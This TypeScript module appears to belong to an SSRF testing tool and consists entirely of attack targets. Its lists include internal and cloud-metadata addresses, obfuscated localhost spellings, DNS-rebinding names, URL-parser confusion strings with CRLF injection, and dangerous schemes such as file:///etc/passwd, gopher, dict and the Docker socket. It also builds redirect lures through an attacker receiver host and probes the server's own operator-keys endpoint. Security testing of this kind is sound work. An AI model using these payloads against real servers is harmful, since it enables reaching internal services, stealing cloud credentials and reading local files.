// The hostile URLs of the attack: spellings, names, rebinding, redirects, links, ports, schemes.
import { INTERNAL_V4, INTERNAL_V6, RESOLVED } from './addresses.ts'
import type { PatternName } from './names.ts'
import { nameOf, OWN_NAME, PATTERNS, RECEIVER_NAME } from './names.ts'
import { spellingsOf } from './spellings.ts'

export interface Target {
  readonly kind: 'address' | 'spelling' | 'name' | 'redirect' | 'link' | 'port' | 'scheme' | 'parser' | 'own URL'
  /** For the report: the URL, or what a name or server does. */
  readonly what: string
  /** Every use of a target has its own number, because some names change with every lookup. */
  url(use: number): string
}

/** Every port of a target. The attack listens on all of them. */
export const PORTS: readonly number[] = [
  ...[21, 22, 23, 25, 53, 70, 80, 110, 389, 443, 445, 1433, 2049, 2375, 2379, 3000, 3128, 3306, 5432, 6379, 6443],
  ...[8000, 8080, 8081, 8443, 8500, 9000, 9090, 9200, 10250, 11211, 27017, 65535],
]

/** The server's own public URL. Its port is watched, unlike the one the server really listens on. */
export const OWN_PORT = 8081
export const OWN_URL = `http://${OWN_NAME}:${OWN_PORT}`

const fixed = (kind: Target['kind'], url: string): Target => ({ kind, what: url, url: () => url })

const addresses: readonly string[] = [...INTERNAL_V4, ...INTERNAL_V6.map((address) => `[${address}]`)]

const SPELLED = ['127.0.0.1', '10.0.0.5', '169.254.169.254', '192.168.0.1']

const LOCAL_NAMES = [
  ...['localhost', 'LOCALHOST', 'localhost.', 'a.localhost', 'localhost.localdomain', 'ip6-localhost', 'broadcasthost'],
  ...[
    'ｌｏｃａｌｈｏｓｔ',
    'ⓛⓞⓒⓐⓛⓗⓞⓢⓣ',
    'local\u00adhost',
    'loc\u200balhost',
    '%6c%6f%63%61%6c%68%6f%73%74',
    'xn--localhost-',
  ],
  ...['intranet', 'router.lan', 'nas.home', 'x.local', 'x.internal', 'x.home.arpa', 'db.corp', 'x.svc.cluster.local'],
  ...['metadata.google.internal', 'metadata', 'instance-data', 'kubernetes.default.svc', 'host.docker.internal'],
  ...['127.0.0.1.nip.io', '10.0.0.5.nip.io', '127-0-0-1.sslip.io', 'lvh.me', 'a.localtest.me', '127.0.0.1.nip.io.'],
]

/** Texts on which URL parsers disagree. */
const PARSERS = [
  `https://${RECEIVER_NAME}@127.0.0.1/`,
  `https://${RECEIVER_NAME}:443@10.0.0.5/`,
  `https://user:password@${RECEIVER_NAME}/`,
  `https://${RECEIVER_NAME}%40127.0.0.1/`,
  `https://127.0.0.1#@${RECEIVER_NAME}/`,
  `https://127.0.0.1?@${RECEIVER_NAME}/`,
  `https://127.0.0.1\\@${RECEIVER_NAME}/`,
  `https://${RECEIVER_NAME}\\@127.0.0.1/`,
  `https://${RECEIVER_NAME}:443\\@10.0.0.5/`,
  `https:\\\\127.0.0.1\\`,
  `https:/\\10.0.0.5/`,
  'https:127.0.0.1',
  'https:/127.0.0.1/',
  'https:///127.0.0.1/',
  '//127.0.0.1/',
  '/\\127.0.0.1/',
  ' https://127.0.0.1/',
  'https://127.0.0.1/ ',
  'ht\ttps://127.0.0.1/',
  'https://127.\t0.0.1/',
  'https://127.0\n.0.1/',
  'https://127.0.0.1\r\nHost: x/',
  `https://${RECEIVER_NAME}\t.127.0.0.1/`,
  'https://127.0.0.1\u0000/',
  `https://127.0.0.1%23.${RECEIVER_NAME}/`,
  `https://127.0.0.1%2f${RECEIVER_NAME}/`,
  'https://[::1/',
  'https://[fe80::1%25lo]/',
  'https://[fe80::1%lo]/',
  'https://[::1].attack.tld/',
  'https://[127.0.0.1]/',
  'https://127.0.0.1:0/',
  'https://127.0.0.1:443443/',
  'https://127.0.0.1:+443/',
  'https://0x7f.1:8443/',
  'https://１２７。１/',
  'https://127.0.0.1／.attack.tld/',
  'https://attack.tld．127.0.0.1/',
  'https://127。0．0｡1:８４４３/',
]

const SCHEMES = [
  ...[
    'file:///etc/passwd',
    'file://127.0.0.1/etc/passwd',
    'gopher://127.0.0.1:70/_x',
    'ftp://10.0.0.5/',
    'ftps://10.0.0.5/',
  ],
  ...['dict://127.0.0.1:11211/stats', 'ldap://127.0.0.1:389/', 'tftp://127.0.0.1:53/x', 'sftp://10.0.0.5:22/'],
  ...[
    'ws://127.0.0.1/',
    'wss://127.0.0.1/',
    'jar:https://127.0.0.1!/',
    'data:application/json,{}',
    'blob:https://127.0.0.1/x',
  ],
  ...[
    'javascript:fetch("https://127.0.0.1")',
    'HTTP://127.0.0.1/',
    'unix:/var/run/docker.sock',
    'http+unix://%2fvar%2frun',
  ],
  ...['view-source:https://127.0.0.1/', 'netdoc:///etc/passwd', 'smb://10.0.0.5:445/x', `http://${RECEIVER_NAME}/`],
]

/** Where redirects and links lead. */
const LURED = [
  ...['http://127.0.0.1/', 'http://127.0.0.1:8080/', 'https://127.0.0.1/', 'https://10.0.0.5:8443/', 'https://[::1]/'],
  ...['http://169.254.169.254/latest/meta-data/', 'https://2130706433/', 'file:///etc/passwd', '//10.0.0.5/'],
  ...['gopher://127.0.0.1:70/_x', `https://${RECEIVER_NAME}@192.168.0.1/`, `https://always-1-0.attack.tld/`],
]
const REDIRECTS = [300, 301, 302, 303, 305, 307, 308]

/** On the receiver: redirects with `status`, or for 200 names `to` wherever a link can be. */
const lure = (status: number, to: string) => `https://${RECEIVER_NAME}/lure/${status}?to=${encodeURIComponent(to)}`

const OWN = [
  ...[OWN_URL, `${OWN_URL}/api/v1/operator/keys`, `https://${OWN_NAME}/`, `https://${OWN_NAME}:8443/`],
  ...[
    `http://127.0.0.1:${OWN_PORT}/healthz`,
    `http://localhost:${OWN_PORT}/metrics`,
    `https://${OWN_NAME.toUpperCase()}/`,
  ],
]

/** IPv6 records need other addresses than IPv4 ones, so every pattern meets a few of each. */
function namesOf(pattern: PatternName): Target[] {
  const isChanging = /^(flip|alternating)/.test(pattern)
  const indexes = [...RESOLVED.keys()].filter((index) => pattern === 'always' || index % (isChanging ? 2 : 3) === 0)
  return indexes.map((index) => ({
    kind: 'name' as const,
    what: `a name that resolves to ${RESOLVED[index]} (${pattern})`,
    url: (use) => `https://${nameOf(pattern, index, use)}/`,
  }))
}

export const TARGETS: readonly Target[] = [
  ...addresses.map((address) => fixed('address', `https://${address}/`)),
  ...addresses.map((address, i) => fixed('address', `http://${address}${i % 2 === 0 ? '' : ':8080'}/`)),
  ...SPELLED.flatMap(spellingsOf).map((host) => fixed('spelling', `https://${host}/`)),
  ...LOCAL_NAMES.map((name) => fixed('name', `https://${name}/`)),
  ...(Object.keys(PATTERNS) as PatternName[]).flatMap(namesOf),
  ...PARSERS.map((url) => fixed('parser', url)),
  ...SCHEMES.map((url) => fixed('scheme', url)),
  ...PORTS.map((port) => fixed('port', `https://always-1-1.attack.tld:${port}/`)),
  ...OWN.map((url) => fixed('own URL', url)),
  ...REDIRECTS.flatMap((status) => LURED.map((to) => fixed('redirect', lure(status, to)))),
  ...LURED.map((to) => fixed('link', lure(200, to))),
]
